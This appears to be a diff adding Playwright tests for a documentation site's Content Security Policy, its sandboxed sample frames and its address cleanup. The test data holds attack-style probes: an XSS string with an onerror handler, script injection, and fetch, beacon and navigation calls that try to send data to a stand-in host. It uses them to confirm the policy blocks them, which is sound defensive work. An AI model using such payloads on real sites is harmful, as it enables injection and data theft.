@@ -1,0 +1,167 @@
+import fs from 'node:fs';
+import {type Page, expect, test as plain} from '@playwright/test';
+import {test} from './livePage';
+
+// All tests on live pages fail when the policy refuses anything. Here is what it must refuse, and what may pass it.
+
+const alive = (page: Page) => page.locator('html[data-has-hydrated="true"]').waitFor();
+
+/** What an attacker who can change a page would try, with the directive that must stop it. */
+const attempts: [string, string, string][] = [
+  [
+    'an inline script',
+    'script-src-elem',
+    `const s = document.createElement('script'); s.textContent = '0'; document.body.append(s)`,
+  ],
+  [
+    'a script of another host',
+    'require-trusted-types-for',
+    `const s = document.createElement('script'); s.src = 'https://elsewhere.example/a.js'; document.body.append(s)`,
+  ],
+  ['a handler in an attribute', 'script-src-attr', `document.body.setAttribute('onclick', '0'); document.body.click()`],
+  [
+    'markup with a handler',
+    'require-trusted-types-for',
+    `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')`,
+  ],
+  ['text that is run', 'require-trusted-types-for', `setTimeout('alert(1)', 0)`],
+  ['a second policy for markup', 'trusted-types', `trustedTypes.createPolicy('mine', {createHTML: (html) => html})`],
+  ['a picture of another host', 'img-src', `new Image().src = 'https://elsewhere.example/a.png'`],
+  ['a request to another host', 'connect-src', `void fetch('https://elsewhere.example/')`],
+  ['a beacon to another host', 'connect-src', `navigator.sendBeacon('https://elsewhere.example/', 'x')`],
+  [
+    'a frame of another host',
+    'frame-src',
+    `const f = document.createElement('iframe'); f.src = 'https://elsewhere.example/'; document.body.append(f)`,
+  ],
+  [
+    'a form that leads to another host',
+    'form-action',
+    `const f = document.createElement('form'); f.action = 'https://elsewhere.example/'; document.body.append(f); f.submit()`,
+  ],
+  [
+    'another base for links',
+    'base-uri',
+    `const b = document.createElement('base'); b.href = 'https://elsewhere.example/'; document.head.append(b)`,
+  ],
+  ['a style in an attribute', 'style-src-attr', `document.body.setAttribute('style', 'color: red')`],
+  [
+    'an inline style sheet',
+    'style-src-elem',
+    `const s = document.createElement('style'); s.textContent = '*{}'; document.body.append(s)`,
+  ],
+];
+
+plain('the policy refuses what the site does not do', async ({page}) => {
+  await page.goto('/docs/billing');
+  await alive(page);
+  const refused: Record<string, string> = {};
+  for (const [what, , code] of attempts) {
+    refused[what] = await page.evaluate(
+      (run) =>
+        new Promise<string>((resolve) => {
+          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
+            once: true,
+          });
+          run();
+        }),
+      // The code goes through the tool that drives the browser, which the policy does not hold.
+      await page.evaluateHandle<() => void>(`() => { try { ${code} } catch {} }`),
+    );
+  }
+  expect(refused).toEqual(Object.fromEntries(attempts));
+});
+
+test('pages that change without a load keep to the policy, data for search engines included', async ({page}) => {
+  await page.goto('/blog');
+  const post = page.locator('article h2 a').first();
+  const title = (await post.textContent()) ?? '';
+  await post.click();
+  await expect(page.getByRole('heading', {level: 1, name: title})).toBeVisible();
+  await expect(page.locator('script[type="application/ld+json"]').first()).toBeAttached();
+});
+
+plain('a live sample reaches nothing outside its frame, and can’t lead the frame elsewhere', async ({page}) => {
+  const sent: string[] = [];
+  await page.route(/elsewhere\.example/, (route) => {
+    sent.push(route.request().url());
+    return route.abort();
+  });
+  await page.goto('/docs/blank');
+  await alive(page);
+  const stage = page.locator('[data-player-stage] iframe').first();
+  await expect(stage.contentFrame().locator('html')).toHaveAttribute('style', /color-scheme/);
+  const frame = await (await stage.elementHandle())?.contentFrame();
+  const reached = await frame?.evaluate(async () => {
+    const attempt = (work: () => unknown) =>
+      Promise.resolve()
+        .then(work)
+        .then(
+          () => 'reached',
+          () => 'refused',
+        );
+    return [
+      await attempt(() => fetch('https://elsewhere.example/')),
+      await attempt(() => parent.document.title),
+      await attempt(() => localStorage.length),
+    ];
+  });
+  expect(reached).toEqual(['refused', 'refused', 'refused']);
+  await frame?.evaluate(() => {
+    new Image().src = 'https://elsewhere.example/a.png';
+    location.href = 'https://elsewhere.example/?leak';
+  });
+  // The refused way shows an error in the frame; nothing was asked.
+  await expect.poll(() => page.frames().some((each) => each.url().startsWith('chrome-error:'))).toBe(true);
+  expect(sent).toEqual([]);
+});
+
+plain('the document of live samples runs nothing when it is not in a sandbox', async ({page, baseURL}) => {
+  await page.goto('/docs/billing');
+  await alive(page);
+  const title = await page.evaluate(async (url) => {
+    const frame = document.createElement('iframe');
+    frame.src = url;
+    await new Promise((resolve) => {
+      frame.addEventListener('load', resolve, {once: true});
+      document.body.append(frame);
+    });
+    frame.contentWindow?.postMessage({sample: '<script>parent.document.title = "taken over"</script>'}, '*');
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    return document.title;
+  }, `${baseURL}/sample-frame.html`);
+  expect(title).not.toBe('taken over');
+});
+
+/** Serves the page as a host does that redirects nothing. */
+async function withoutRedirects(page: Page, path: string, file: string): Promise<void> {
+  const body = fs.readFileSync(`build/${file}`);
+  await page.route(
+    (url) => url.pathname === path,
+    (route) => route.fulfill({headers: {'Content-Type': 'text/html; charset=utf-8'}, body}),
+  );
+}
+
+test('on a host that redirects nothing, a page cleans its own address', async ({page}) => {
+  await withoutRedirects(page, '/docs/billing.html', 'docs/billing.html');
+  await page.goto('/docs');
+  const before = await page.evaluate(() => history.length);
+  const documents: string[] = [];
+  page.on('request', (request) => {
+    if (request.isNavigationRequest() && request.frame() === page.mainFrame()) {
+      documents.push(new URL(request.url()).pathname);
+    }
+  });
+  await page.goto('/docs/billing.html?x=1#y');
+  await expect(page).toHaveURL(/\/docs\/billing\?x=1#y$/);
+  await expect(page.locator('.menu__link--active[aria-current="page"]')).toBeVisible();
+  expect(await page.evaluate(() => history.length)).toBe(before + 1);
+  expect(documents).toEqual(['/docs/billing.html']);
+});
+
+test('the home page cleans its address, too', async ({page}) => {
+  await withoutRedirects(page, '/index.html', 'index.html');
+  await page.goto('/index.html');
+  await expect(page).toHaveURL(/\/$/);
+  await expect(page.getByRole('heading', {level: 1})).toBeVisible();
+});
